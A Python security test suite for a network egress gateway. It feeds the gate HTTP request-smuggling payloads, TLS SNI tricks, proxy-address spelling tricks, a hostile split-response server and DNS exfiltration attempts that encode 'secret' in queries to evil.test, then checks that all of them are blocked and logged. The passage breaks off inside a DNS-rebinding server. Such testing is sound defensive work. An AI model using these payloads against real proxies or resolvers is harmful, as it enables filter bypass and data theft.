# SPDX-License-Identifier: Apache-2.0
"""Attacks from inside by way of the network: names that two readers could read
in two ways, messages that are hidden from whoever judges them, floods, and
faults of the gate's surroundings at the wrong moment."""
import json
import os
import re
import resource
import signal
import subprocess
import time

from harness import check, silent
from lab import CDN, DNS, GOOD, sh

COMMON = r"""
import os, socket, ssl, struct, sys, threading, time
GW, PORT = os.environ.get("GATEWAY", "").split(":") if os.environ.get("GATEWAY") \
    else (os.environ.get("http_proxy") or "//x:0").split("//")[1].split(":")
PORT = int(PORT)
def dial(where, timeout=3):
    s = socket.create_connection(where, timeout); s.settimeout(timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s
def rest(s):
    got = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: return got
            got += d
    except OSError as e:
        return got + b" [" + type(e).__name__.encode() + b"]"
def say(where, data, pause=0.1, end=False, timeout=3):
    try:
        s = dial(where, timeout)
        for piece in data if isinstance(data, list) else [data]:
            s.sendall(piece); time.sleep(pause)
        if end: s.shutdown(socket.SHUT_WR)
        return rest(s)
    except OSError as e:
        return b"[" + type(e).__name__.encode() + b"]"
def hello(name):
    out = ssl.MemoryBIO(); c = ssl.create_default_context()
    o = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try: o.do_handshake()
    except ssl.SSLError: pass
    return out.read()
def record(body, kind=0x16):
    return bytes([kind, 3, 1]) + struct.pack(">H", len(body)) + body
def ext(kind, body): return struct.pack(">HH", kind, len(body)) + body
def sni(*names):
    l = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in names)
    return ext(0, struct.pack(">H", len(l)) + l)
def client_hello(*extensions, session=b"", compression=b"\x01\0", tail=b""):
    e = b"".join(extensions)
    b = (b"\3\3" + b"R" * 32 + bytes([len(session)]) + session +
         b"\0\4\xc0\x2f\xc0\x2b" + compression + struct.pack(">H", len(e)) + e + tail)
    return b"\1" + struct.pack(">I", len(b))[1:] + b
def name(text):
    return b"".join(bytes([len(l)]) + l for l in text.split(b".") if l) + b"\0"
def query(qname, qtype=1, qclass=1, flags=0x100, counts=(1, 0, 0, 0), tail=b"", ident=7):
    return struct.pack(">6H", ident, flags, *counts) + qname + struct.pack(">2H", qtype, qclass) + tail
def udp(data, timeout=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(timeout)
    s.sendto(data, (GW, 53))
    try: return s.recv(4096)
    except OSError: return b""
def tcp(data, timeout=2):
    return say((GW, 53), data, 0, True, timeout)
"""


def attack(case, code, **kw):
    return case.python(COMMON + code, **kw)


def status(pid):
    with open(f"/proc/{pid}/status") as f:
        return {k: v.split()[0] for k, v in
                (line.split(":", 1) for line in f if v_of(line))}


def v_of(line):
    return line.split(":", 1)[1].strip()


def upstream(case):
    return len(case.lab.packets(f"dst host {DNS} and port 53"))


def access_log(case):
    with open(case.lab.dir + "/access.log") as f:
        return f.read()


# -- what is on another port ------------------------------------------------


def test_http_hidden_from_the_sniffer(case):
    """On ports other than 80 and 443 HTTP is recognised by its first bytes; what
    a real server (nginx here) takes for a request must be seen as one."""
    run = attack(case, r"""
evil = b" /host HTTP/1.1\r\nHost: evilcdn.test\r\nConnection: close\r\n\r\n"
tries = {
    "long method": b"A" * 65 + evil,
    "very long method": b"A-B_" * 200 + evil,
    "empty lines": [b"\r\n" * 8200, b"GET" + evil],
    "empty lines, LF": [b"\n" * 16400, b"GET" + evil],
    "0.9, whole URL": b"GET http://evilcdn.test/host\r\n",
    "0.9, whole URL, LF": b"GET http://evilcdn.test/host\n",
    "0.9, two spaces": b"GET  http://evilcdn.test/host\r\n",
    "in two": [b"G", b"ET http://evilcdn.test/host\r", b"\n"],
    "lower case version": b"GET /host http/1.1\r\nHost: evilcdn.test\r\n\r\n",
    "tabs": b"GET\t/host\tHTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    "ended": b"GET http://evilcdn.test/host HTTP/1.0\nHost: evilcdn.test\n\n",
}
for what, data in tries.items():
    for end in False, True:
        got = say(("allowed.test", 8080), data, end=end, timeout=1.5)
        print("PASSED" if b"evilcdn.test\n" in got else "held", what, end, got[-40:])
""", proxy=False, allow=("allowed.test:8080",))
    check(run.status == 0 and "PASSED" not in run.out, run)


def test_http_behind_a_blank_line(case):
    """Not even the first bytes of such a message may reach the server."""
    run = attack(case, r"""
for data in ([b" \r\nGET /host HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"],
             [b"GET http://evilcdn.test/\x01", b" HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"],
             [b"FOO /\x7f", b" HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"]):
    got = say(("allowed.test", 7000), data, timeout=1)  # it echoes
    print("PASSED" if b"evilcdn" in got else "held", data, got[-60:])
""", proxy=False, allow=("allowed.test:7000",))
    check(run.status == 0 and "PASSED" not in run.out, run)


def test_tls_hidden_from_the_sniffer(case):
    run = attack(case, r"""
h = hello("evilcdn.test"); body = h[5:]
tries = {
    "plain": h,
    "split": record(body[:1]) + record(body[1:3]) + record(body[3:]),
    "alert first": b"\x15\3\1\0\2\1\x5a" + h,
    "change cipher first": b"\x14\3\1\0\1\1" + h,
    "heartbeat first": b"\x18\3\1\0\3\1\0\0" + h,
    "empty record first": b"\x16\3\1\0\0" + h,
    "application data first": b"\x17\3\1\0\0" + h,
    "odd minor": b"\x16\3\7" + h[3:],
    "sslv2": b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + b"\0\0\x2f" * 7 + b"C" * 16,
    "bytewise": [bytes([b]) for b in h],
    "lines first": b"\r\n" + h,
}
for what, data in tries.items():
    for where in (("allowed.test", 7000),):
        got = say(where, data, 0 if isinstance(data, list) else 0.05, timeout=0.7)
        print("PASSED" if b"evilcdn" in got or b"CCCCCCCC" in got else "held", what, got[:20])
""", proxy=False, allow=("allowed.test:7000",))
    # A line is no TLS that any server takes: it may pass.
    lines = [l for l in run.out.splitlines()
             if "PASSED" in l and "lines first" not in l]
    check(run.status == 0 and not lines, run)


# -- 443 --------------------------------------------------------------------


def test_hello_oddities(case):
    """Two names on one shared host: nothing of such a hello gets there."""
    run = attack(case, r"""
good, evil = b"cdn.test", b"evilcdn.test"
h = hello("evilcdn.test"); ok = hello("cdn.test")
pad = ext(21, b"\0" * 17000)
tries = {
    "two names": record(client_hello(sni(good, evil))),
    "two names, other order": record(client_hello(sni(evil, good))),
    "two extensions": record(client_hello(sni(good), sni(evil))),
    "extension twice": record(client_hello(sni(good), ext(10, b"\0\2\0\x1d"), ext(10, b"\0\2\0\x17"))),
    "NUL": record(client_hello(sni(good + b"\0." + evil))),
    "dot": record(client_hello(sni(good + b"."))),
    "space": record(client_hello(sni(good + b" "))),
    "address": record(client_hello(sni(b"93.184.216.40"))),
    "other name type": record(client_hello(ext(0, b"\0\x0b\1\0\x08cdn.test"))),
    "empty list": record(client_hello(ext(0, b"\0\0"))),
    "empty extension": record(client_hello(ext(0, b""))),
    "no extensions": record(b"\1\0\0\x29\3\3" + b"R" * 32 + b"\0\0\2\xc0\x2f\1\0"),
    "bytes after the extensions": record(client_hello(sni(good), tail=b"\0")),
    "long session": record(client_hello(sni(good), session=b"s" * 33)),
    "two messages, one record": record(client_hello(sni(good)) + client_hello(sni(evil))),
    "cut in the second": record(client_hello(sni(good)) + client_hello(sni(evil))[:9]),
    "two records, wrong name": record(h[5:40]) + record(h[40:]),
    "wrong name behind 17 kB": record(client_hello(pad, sni(evil))[:16384]) + record(client_hello(pad, sni(evil))[16384:]),
    "length lies": b"\x16\3\1\xff\xff" + h[5:],
    "32 kB": b"".join(record(b"\1\0\xff\xff" + b"x" * 9000) for _ in range(8)),
    "sslv2": b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + b"\0\0\x2f" * 7 + b"C" * 16,
    "alert first": b"\x15\3\1\0\2\1\x5a" + ok,
    "http": b"GET / HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    "case": record(client_hello(sni(b"EVILcdn.test"))),
}
def through(kind):
    s = dial((GW, PORT) if kind else ("cdn.test", 443))
    if kind == "connect":
        s.sendall(b"CONNECT CDN.test.:443 HTTP/1.1\r\nHost: cdn.test\r\n\r\n"); s.recv(4096)
    if kind == "socks":
        s.sendall(b"\5\1\0"); s.recv(2)
        s.sendall(b"\5\1\0\3\x08cdn.test\1\xbb"); s.recv(10)
    return s
n = 0
for kind in "", "connect", "socks":
    for what, data in tries.items():
        try:
            s = through(kind); s.settimeout(1); s.sendall(data); s.shutdown(1); rest(s); n += 1
        except OSError: n += 1
print("tried", n)
""", allow=("cdn.test",))
    check("tried 72" in run.out, run)
    sent = case.lab.packets(f"dst host {CDN} and port 443 and tcp[13] & 8 != 0")
    check(not sent, sent)


# -- HTTP -------------------------------------------------------------------


def test_http_smuggling(case):
    """No request but those that were judged reaches the server."""
    run = attack(case, r"""
inner = b"GET /smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"
def post(*fields, body=inner, version=b"1.1", target=b"/upload"):
    return (b"POST " + target + b" HTTP/" + version + b"\r\nHost: cdn.test\r\n" +
            b"".join(f + b"\r\n" for f in fields) + b"\r\n" + body)
n = b"Content-Length: %d" % len(inner)
c = b"Transfer-Encoding: chunked"
last = b"0\r\n\r\n"
tries = [
    post(n, c, body=last + inner), post(c, n, body=last + inner),
    post(b"Content-Length: 0", n), post(b"Content-Length: 0, %d" % len(inner)),
    post(b"Content-Length: +0"), post(b"Content-Length: -1"), post(b"Content-Length: 0x0"),
    post(b"Content-Length: 99999999999999999999"), post(b"Content-Length : 0"),
    post(b"Content-Length: 0 0"), post(b"Content-Length:\t0\x0b"),
    post(b"Content-Length:"), post(b"content_length: 0", n),
    post(b"Transfer-Encoding: chunkedx", body=last + inner),
    post(b"Transfer-Encoding: x, chunked", body=last + inner),
    post(b"Transfer-Encoding: chunked, identity", body=last + inner),
    post(b"Transfer-Encoding: chunked", c, body=last + inner),
    post(b"Transfer-Encoding : chunked", n, body=last + inner),
    post(b"Transfer-Encoding:\x0bchunked", n, body=last + inner),
    post(b"Transfer-Encoding: \"chunked\"", body=last + inner),
    post(b"Transfer-Encoding:\r\n chunked", n, body=last + inner),
    post(b"X: y\r\n\tTransfer-Encoding: chunked", n), post(c, version=b"1.0", body=last + inner),
    post(b"X: y\rTransfer-Encoding: chunked", n), post(b"X: y\nTransfer-Encoding: chunked", n),
    post(b"X: \0", n), post(b": x", n), post(b"X", n),
    post(c, body=b"+0\r\n\r\n" + inner), post(c, body=b"0x0\r\n\r\n" + inner),
    post(c, body=b"0\n\n" + inner), post(c, body=b"0 \r\n\r\n" + inner),
    post(c, body=b"0;a=\"\r\n\r\n" + inner), post(c, body=b"0;a\nb\r\n\r\n" + inner),
    post(c, body=b"10000000000000000\r\n\r\n" + inner), post(c, body=b"-1\r\n" + inner),
    post(c, body=b"3\r\nabcXX0\r\n\r\n" + inner), post(c, body=b"3\r\nabc\r0\r\n\r\n" + inner),
    post(c, body=b"0\r\nHost: evilcdn.test\r\n\r\n" + inner),
    post(c, body=b"0\r\nContent-Length: 9\r\n\r\n" + inner),
    post(c, body=b"0\r\nGET /smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n"),
    post(b"Expect: 100-continue", n), post(b"Expect: 200-ok", n),
    post(b"Connection: Transfer-Encoding", c, body=last + inner),
    post(b"Connection: Host, Content-Length", n), post(b"Connection: close", body=inner),
    post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk", body=inner),
    post(b"Upgrade: websocket", b"Connection: Upgrade", body=inner),
    post(b"Host: evilcdn.test"), post(b"hOST:evilcdn.test"), post(b"Host : evilcdn.test"),
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test, evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test:80, evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test@evilcdn.test\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost: cdn.test:8080\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost:\r\n\r\n", b"GET /smuggled HTTP/1.1\r\n\r\n",
    b"GET /plain10 HTTP/1.0\r\n\r\n", b"GET /smuggled\r\n", b"GET /smuggled HTTP/0.9\r\n\r\n",
    b"GET /smuggled HTTP/1.2\r\nHost: cdn.test\r\n\r\n", b"GET /smuggled HTTP/2.0\r\nHost: cdn.test\r\n\r\n",
    b"GET http://evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http://cdn.test@evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http://cdn.test\\@evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET HTTP://evilcdn.test/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET http:/smuggled HTTP/1.1\r\nHost: cdn.test\r\n\r\n",
    b"GET evilcdn.test/smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    b"GET /host HTTP/1.1\r\nHost: evilcdn.test\r\nHost: cdn.test\r\n\r\n",
    b"GET\x0b/smuggled HTTP/1.1\r\nHost: evilcdn.test\r\n\r\n",
    b"CONNECT cdn.test:80 HTTP/1.1\r\nHost: cdn.test:80\r\n\r\n" + inner,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner, inner,
    b"GET /index.html HTTP/1.1\r\nHost: cdn.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + inner,
    b"HEAD /index.html HTTP/1.1\r\nHost: cdn.test\r\n\r\n" + inner,
    b"GET /index.html HTTP/1.1\r\nHost: cdn.test\r\n\r\n" + inner,
    b"GET /index.html HTTP/1.0\r\nHost: cdn.test\r\nConnection: keep-alive\r\n\r\n" + inner,
]
def absolute(data):
    m, t, r = data.split(b" ", 2) if data.count(b" ") > 1 else (b"", b"", b"")
    return m + b" http://cdn.test" + t + b" " + r if t.startswith(b"/") else None
bad = 0
def one(data, where):
    global bad
    got = say(where, data, 0, timeout=1)
    if b"evilcdn.test\n" in got: bad += 1; print("REACHED", data, got[-200:])
    if got.count(b"HTTP/1.1 200") > 1: bad += 1; print("TWO", data, got)
threads = []
for data in tries:
    for d, where in ((data, ("cdn.test", 80)), (data, (GW, PORT)), (absolute(data), (GW, PORT))):
        if d:
            threads.append(threading.Thread(target=one, args=(d, where)))
            threads[-1].start()
            if len(threads) % 40 == 0: [t.join() for t in threads]
[t.join() for t in threads]
print("tried", len(tries), "bad", bad)
""", allow=("cdn.test",))
    check("bad 0" in run.out and "REACHED" not in run.out, run)
    check("smuggled" not in access_log(case), access_log(case)[-3000:])


def test_path_forms(case):
    """Log and server see the same path, and no dots reach the server."""
    run = attack(case, r"""
for p in (b"/a/../../x", b"/%2e%2e/x", b"//evil.test/x", b"/..;/x", b"/./host", b"/x%00", b"/x%0d%0aHost:evil"):
    print(p, say((GW, PORT), b"GET http://allowed.test" + p + b" HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 0, timeout=2)[:12])
""")
    check(run.status == 0 and run.out.count("HTTP/1.1") == 7, run)
    check("/../" not in access_log(case) and "..;" not in access_log(case))


HOSTILE = r"""
import socket, threading
GOOD = b"HTTP/1.1 200 OK\r\n"
X = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nSMUGGLED"
R = {
 b"clte": GOOD + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\nok" + X,
 b"cls": GOOD + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\nok" + X,
 b"two": GOOD + b"Content-Length: 2\r\n\r\nok" + X,
 b"204": b"HTTP/1.1 204 No\r\nContent-Length: 2\r\n\r\n" + X,
 b"304": b"HTTP/1.1 304 No\r\n\r\n" + X,
 b"101": b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + X,
 b"1xx": b"HTTP/1.1 103 Hints\r\n\r\n" * 5000 + X,
 b"fold": GOOD + b"A: b\r\n c\r\nContent-Length: 2\r\n\r\nok" + X,
 b"bare": b"HTTP/1.1 200 OK\nContent-Length: 2\n\nok" + X,
 b"nul": GOOD + b"A\0: b\r\nContent-Length: 2\r\n\r\nok" + X,
 b"many": GOOD + b"A: b\r\n" * 20000 + b"\r\n" + X,
 b"long": GOOD + b"A: " + b"b" * 300000 + b"\r\n\r\n" + X,
 b"chunk": GOOD + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + X,
 b"chunk2": GOOD + b"Transfer-Encoding: chunked\r\n\r\n2;a=\"\r\n\"\r\nok\r\n0\r\n\r\n" + X,
 b"te": GOOD + b"Transfer-Encoding: gzip, chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n" + X,
 b"09": b"SMUGGLED\r\n", b"status": b"HTTP/1.1 999 X\r\n\r\n" + X, b"none": b"",
 b"ver": b"HTTP/2.0 200 OK\r\nContent-Length: 2\r\n\r\nok" + X,
 b"space": b"HTTP/1.1  200 OK\r\nContent-Length: 2\r\n\r\nok" + X,
}
def one(c):
    try:
        d = b""
        while b"\r\n\r\n" not in d:
            g = c.recv(4096)
            if not g: return
            d += g
        c.sendall(R.get(d.split(b" ")[1][1:], GOOD + b"Content-Length: 5\r\n\r\nfine!"))
    except OSError: pass
    finally: c.close()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("%s", 9080)); s.listen(64)
while True:
    c, _ = s.accept(); threading.Thread(target=one, args=(c,), daemon=True).start()
"""


def inside(case, code):
    """A server in the internet of the lab, stopped by its lab."""
    lab = case.lab
    return lab.spawn("nsenter", "-t", str(lab.holder.pid), "-n", "python3",
                     "-c", code)


def test_hostile_server(case):
    """Two requests on one client connection: the second one's answer is its
    own, whatever the first one's server said."""
    server = inside(case, HOSTILE % GOOD)
    case.lab.wait(lambda: case.lab.listens(GOOD, 9080), "port 9080")
    words = re.findall(r'b"(\w+)": ', HOSTILE)
    run = attack(case, f"words = {words!r}" + r"""
def one(w):
    for where in (("allowed.test", 9080), (GW, PORT)):
        a = b"http://allowed.test:9080" if where[1] == PORT else b""
        req = b" " + a + b"/%s HTTP/1.1\r\nHost: allowed.test:9080\r\n\r\n"
        for m in b"GET", b"HEAD":
            got = say(where, m + req % w.encode() + b"GET" + req % b"fine", 0, timeout=3)
            print("SPLIT" if b"SMUGGLED" in got else "ok", w, m, len(got), got[:40])
ts = [threading.Thread(target=one, args=(w,)) for w in words]
[t.start() for t in ts]; [t.join() for t in ts]
print("alive", say(("allowed.test", 9080), b"GET /fine HTTP/1.1\r\nHost: allowed.test:9080\r\nConnection: close\r\n\r\n", 0)[-5:])
""", allow=("allowed.test:9080",))
    os.kill(server.pid, signal.SIGKILL)
    check(len(words) >= 18 and "alive b'fine!'" in run.out, run)
    check("SPLIT" not in run.out, run)
    check("restart" not in json.dumps(run.records).lower(), "the gate died")


def test_proxy_authorities(case):
    """One meaning per name, in each spelling and door."""
    run = attack(case, r"""
names = [b"evil.test", b"EVIL.test", b"evil.test.", b"allowed.test.evil.test",
    b"allowed.test\0.evil.test", b"evil.test\0.allowed.test", b"allowed.test@evil.test",
    b"evil.test#@allowed.test", b"evil.test/allowed.test", b"evil.test\\.allowed.test",
    b"evil.test%00.allowed.test", b"evil.test%2eallowed.test", b"evil.test:443#allowed.test",
    b"evil.test .allowed.test", b"evil.test\t", b"-evil.test", b"evil..test", b".evil.test",
    b"evil.test:80:443", b"[evil.test]", b"[::ffff:93.184.216.66]", b"::ffff:93.184.216.66",
    b"93.184.216.66", b"93.184.216.66.", b"1572395074", b"0x5db8d842", b"0135.0270.0330.0102",
    b"93.184.55362", b"93.12113986", b"0x5d.0xb8.0xd8.0x42", b"evil.test%eth0", b"*.test", b"*",
    "\uff45vil.test".encode(), "ev\u0131l.test".encode(), b"xn--evil.test", b"evil_.test",
    b"sandbox.localhost", b"localhost", b"ip6-localhost", GW.encode(), b"198.18.0.1", b"198.18.0.7",
    b"0.0.0.0", b"", b"a" * 64 + b".test", b".".join([b"a" * 60] * 5), b"evil.test" + b"." * 2]
bad = 0
def ok(got, what):
    global bad
    if got.startswith(b"HTTP/1.1 2") or got[:2] == b"\5\0" and got[2:4] == b"\5\0":
        bad += 1; print("LET IN", what, got[:60])
for n in names:
    for p in b"443", b"80", b"53":
        ok(say((GW, PORT), b"CONNECT " + n + b":" + p + b" HTTP/1.1\r\nHost: " + n + b":" + p + b"\r\n\r\n", 0, False, 1), n)
    ok(say((GW, PORT), b"GET http://" + n + b"/ HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, False, 1), n)
    if len(n) < 256:
        ok(say((GW, PORT), b"\5\1\0\5\1\0\3" + bytes([len(n)]) + n + b"\1\xbb", 0, False, 1), n)
for req in (b"\5\1\0\5\1\0\1" + socket.inet_aton("93.184.216.66") + b"\1\xbb",
            b"\5\1\0\5\1\0\4" + b"\0" * 10 + b"\xff\xff" + socket.inet_aton("93.184.216.66") + b"\1\xbb",
            b"\5\1\0\5\3\0\3\x0callowed.test\1\xbb", b"\5\1\0\5\2\0\3\x0callowed.test\1\xbb",
            b"\5\1\0\5\1\1\3\x0callowed.test\1\xbb", b"\5\1\0\5\1\0\3\x0callowed.test\0\0",
            b"\5\1\2\1\1a\1b\5\1\0\3\x0callowed.test\1\xbb", b"\5\0\5\1\0\3\x0callowed.test\1\xbb",
            b"\4\1\1\xbb\x5d\xb8\xd8\x42\0", b"\4\1\1\xbb\0\0\0\1\0evil.test\0"):
    ok(say((GW, PORT), req, 0, False, 1), req)
print("bad", bad)
""")
    check("bad 0" in run.out, run)
    silent(case)


def test_proxy_to_itself(case):
    """By its name or address, and through a chain of CONNECTs."""
    run = attack(case, r"""
for n in GW, "allowed.test":
    s = dial((GW, PORT)); s.sendall(f"CONNECT {n}:3128 HTTP/1.1\r\nHost: {n}:3128\r\n\r\n".encode())
    print(s.recv(100).split(b"\r\n")[0])
print(say((GW, PORT), b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nVia: 1.1 sallyport\r\nConnection: close\r\n\r\n", 0)[:12])
print(say((GW, PORT), b"GET /metrics HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 0, True)[:12])
""")
    check(run.out.count("HTTP/1.1 4") + run.out.count("HTTP/1.1 5") == 4, run)


# -- DNS --------------------------------------------------------------------


def test_dns_oddities(case):
    """Messages that carry something beside an allowed name: nothing goes up,
    and each is answered or recorded."""
    before = upstream(case)
    run = attack(case, r"""
secret = name(b"c2VjcmV0.evil.test"); ok = name(b"allowed.test")
rr = secret + struct.pack(">2HIH", 16, 1, 0, 7) + b"\6secret"
opt = lambda d, size=4096, ttl=0: b"\0" + struct.pack(">2HIH", 41, size, ttl, len(d)) + d
m = [query(ok, counts=(2, 0, 0, 0), tail=secret + b"\0\1\0\1"), query(ok, counts=(0, 0, 0, 0)),
     query(ok, counts=(1, 1, 0, 0), tail=rr), query(ok, counts=(1, 0, 1, 0), tail=rr),
     query(ok, counts=(1, 0, 0, 1), tail=rr), query(ok, counts=(1, 0, 0, 2), tail=opt(b"") + rr),
     query(ok, tail=b"leftover"), query(ok, counts=(1, 0, 0, 1), tail=opt(b"\xff\xfe\0\x0asecret")),
     query(ok, counts=(1, 0, 0, 1), tail=opt(b"", ttl=0x10000)), query(ok, qclass=3), query(ok, qclass=255),
     query(ok, 252), query(ok, 251), query(ok, 41), query(ok, 0), query(ok, 65535),
     query(b"\xc0\x0c"), query(b"\7allowed\xc0\x0c"), query(b"\x0callowed.test\0"), query(b"\7allowed\4test\4evil\xc0\x0c"),
     query(b"\x3f" + b"a" * 63 + b"\4test\0"), query(b"\x40" + b"a" * 64 + b"\0"), query((b"\x3f" + b"a" * 63) * 5 + b"\0"),
     query(name(b"allowed.test\0")), query(name(b"al\0owed.test")), query(name(b"allowed .test")), query(name(b"a\xc3\xbf.test")),
     query(ok, flags=0x8100), query(ok, flags=0x2900), query(ok, flags=0x1100), query(ok, flags=0x0900),
     query(secret, flags=0), query(name(b"ALLOWED.evil.TEST")), query(b"\0", 2), query(b"\0", 1), query(name(b"test"), 6),
     b"", b"\0", ok * 40, query(ok)[:13], query(secret, 16), query(secret, 28), query(secret, 65), query(secret, 255)]
for d in m:
    udp(d, 0.15)
    if len(d) >= 12: tcp(struct.pack(">H", len(d)) + d, 1)
tcp(struct.pack(">H", 0)); tcp(b"\xff\xff" + b"x" * 65535); tcp(b"\0"); tcp(struct.pack(">H", 5) + b"abcde")
tcp(struct.pack(">H", len(m[-1])) + m[-1][:9])
tcp(b"".join(struct.pack(">H", len(d)) + d for d in m if len(d) >= 12) * 20, 3)
print("sent")
""", args=("--deny", "nothing.test"))
    check("sent" in run.out, run)
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    # Only plain questions for allowed.test (EDNS options are not copied).
    check(all("allowed.test." in p for p in asked), asked)
    check("secret" not in "".join(asked) and "c2Vj" not in "".join(asked))
    check(run.denied("malformed"), run.records)


def test_dns_case_is_not_a_channel(case):
    before = upstream(case)
    run = attack(case, r"""
for i in range(64):
    n = bytes(c & ~32 if 97 <= c < 123 and i >> (k % 6) & 1 else c for k, c in enumerate(b"allowed.test"))
    udp(query(name(n)), 0.5)
""")
    check(run.status == 0, run)
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    check(len(asked) <= 4 and all(" allowed.test. " in p for p in asked), asked)


def test_dns_of_others(case):
    """Whichever name server is asked, on port 53 our own one answers, elsewhere
    nobody; whatever the source port, and also at a leased address."""
    before = upstream(case)
    run = attack(case, f"servers = {[DNS, '8.8.8.8', '203.0.113.1', '203.0.113.2', '198.18.0.1', '224.0.0.251']!r}" + r"""
q = query(name(b"c2VjcmV0.evil.test"))
for a in servers:
    for p in 53, 853, 5353, 443:
        got = say((a, p), struct.pack(">H", len(q)) + q, 0, timeout=0.5)
        if len(got) > 30 and (p != 53 or got[5] & 15 != 3): print("ANSWER", a, p, got)
        for source in 0, 53, 3128:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.05)
            try:
                if source: s.bind(("", source))
                s.sendto(q, (a, p)); got = s.recv(512)
                if p != 53 or got[3] & 15 != 3: print("ANSWER", a, p, got)
            except OSError: pass
print("tried")
""")
    check("tried" in run.out and "ANSWER" not in run.out, run)
    check(upstream(case) == before, "asked upstream")
    for server in DNS, "8.8.8.8":
        check([r for r in run.records if r.get("dst_endpoint", {}).get("ip")
               == server], f"{server} is not in the log")
    silent(case)


def test_dns_tcp_connections(case):
    """Many that are idle or trickle do not keep a real question out."""
    run = attack(case, r"""
held = []
for i in range(300):
    try: s = dial((GW, 53), 1); s.sendall(b"\0"); held.append(s)
    except OSError: pass
q = query(name(b"allowed.test"))
began = time.time()
print("answered", len(tcp(struct.pack(">H", len(q)) + q)) > 30, time.time() - began < 1)
""")
    check("answered True True" in run.out, run)


def test_dns_tcp_garbage_is_recorded(case):
    """What is no question is in the log, by TCP as by UDP."""
    run = attack(case, r"""
udp(b"\0" * 14, 0.2)
tcp(struct.pack(">H", 5) + b"abcde", 1); tcp(b"\xff\xff" + b"exfil" * 100, 1)
""")
    said = json.dumps(run.denied("malformed"))
    check('"udp"' in said and '"tcp"' in said, said)


def test_names_count_in_all_doors(case):
    """What is below a wildcard is limited, whichever door it comes by."""
    before = upstream(case)
    run = attack(case, r"""
def door(i):
    n = b"d%d.tunnel.test" % i
    if i % 4 == 0: udp(query(name(n)), 0.5)
    if i % 4 == 1: say((GW, PORT), b"CONNECT " + n + b":443 HTTP/1.1\r\n\r\n", 0, True, 1)
    if i % 4 == 2: say((GW, PORT), b"GET http://" + n + b"/ HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, True, 1)
    if i % 4 == 3: say((GW, PORT), b"\5\1\0\5\1\0\3" + bytes([len(n)]) + n + b"\1\xbb", 0, True, 1)
for k in range(5):
    ts = [threading.Thread(target=door, args=(i,)) for i in range(k * 40, k * 40 + 40)]
    [t.start() for t in ts]; [t.join() for t in ts]
""", allow=("*.tunnel.test",))
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    names = {p.split("? ")[1].split()[0] for p in asked if "? " in p}
    check(run.denied("limit_names") and len(names) <= 64, (len(names), run))


def test_wildcard_edges(case):
    run = attack(case, r"""
for n in (b"wild.test", b"evilwild.test", b"xwww.wild.test.evil.test", b"www-wild.test", b"www.wild.test.", b"WWW.wild.TEST", b"a.b.deny.wild.test", b"deny.wild.test"):
    print(n.decode(), say((GW, PORT), b"GET http://" + n + b"/host HTTP/1.1\r\nHost: " + n + b"\r\nConnection: close\r\n\r\n", 0)[:12].decode())
""", allow=("*.wild.test",), args=("--deny", "deny.wild.test", "--deny", "*.deny.wild.test"))
    want = {"www.wild.test.": "200", "WWW.wild.TEST": "200"}
    for line in run.out.splitlines():
        name, _, status_line = line.partition(" ")
        check(status_line.endswith(want.get(name, "403")), run)
    check(len(run.out.splitlines()) == 8, run)


REBINDER = r"""
import socket, struct, threading
A = lambda ip: struct.pack(">2HIH", 1, 1, 0, 4) + socket.inet_aton(ip)
seen = {}
def name(t): return b"".join(bytes([len(l)]) + l for l in t.split(b".")) + b"\0"
def answer(q):
    at, labels = 12, []
    while q[at]: labels.append(q[at + 1:at + 1 + q[at]]); at += 1 + q[at]
    end = at + 5; kind = struct.unpack(">H", q[at + 1:at + 3])[0]
    w = labels[0]; n = seen[w, kind] = seen.get((w, kind), 0) + 1
